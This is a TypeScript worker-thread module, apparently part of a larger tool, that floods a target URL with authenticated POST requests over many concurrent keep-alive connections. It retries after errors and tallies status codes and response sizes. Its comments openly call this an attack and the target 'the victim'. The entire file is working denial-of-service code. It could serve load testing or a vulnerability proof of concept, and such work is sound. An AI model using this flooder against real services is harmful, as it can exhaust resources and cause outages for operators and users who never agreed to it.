import { Agent, request } from "node:http";
import { setTimeout as delay } from "node:timers/promises";
import { parentPort, workerData } from "node:worker_threads";

/** What the attack sends, over and over. */
export interface Flood {
  url: string;
  authorization: string;
  body: string;
  /** Requests that are under way at a time. */
  loops: number;
}

const PAUSE_AFTER_FAILURE_MS = 100;

const { url, authorization, body, loops } = workerData as Flood;
const agent = new Agent({ keepAlive: true, maxSockets: loops });
const headers = {
  authorization,
  "content-type": "application/json",
  "content-length": Buffer.byteLength(body),
};
const counts: Record<string, number> = {};
let largest = 0;
let stopped = false;

/** Reads an answer and throws it away: parsing it would be work on the victim's cores. */
function ask(): Promise<void> {
  return new Promise((resolve, reject) => {
    const sent = request(url, { agent, method: "POST", headers }, (answer) => {
      let bytes = 0;
      answer.on("data", (chunk: Buffer) => {
        bytes += chunk.length;
      });
      answer.on("end", () => {
        largest = Math.max(largest, bytes);
        counts[answer.statusCode ?? 0] = (counts[answer.statusCode ?? 0] ?? 0) + 1;
        resolve();
      });
      answer.on("error", reject);
    });
    sent.on("error", reject);
    sent.end(body);
  });
}

async function loop(): Promise<void> {
  while (!stopped) {
    try {
      await ask();
    } catch (error) {
      if (stopped) return;
      const name = error instanceof Error && "code" in error ? String(error.code) : "error";
      counts[name] = (counts[name] ?? 0) + 1;
      await delay(PAUSE_AFTER_FAILURE_MS);
    }
  }
}

parentPort!.once("message", () => {
  stopped = true;
  agent.destroy();
});
await Promise.all(Array.from({ length: loops }, loop));
parentPort!.postMessage({ counts, largest });
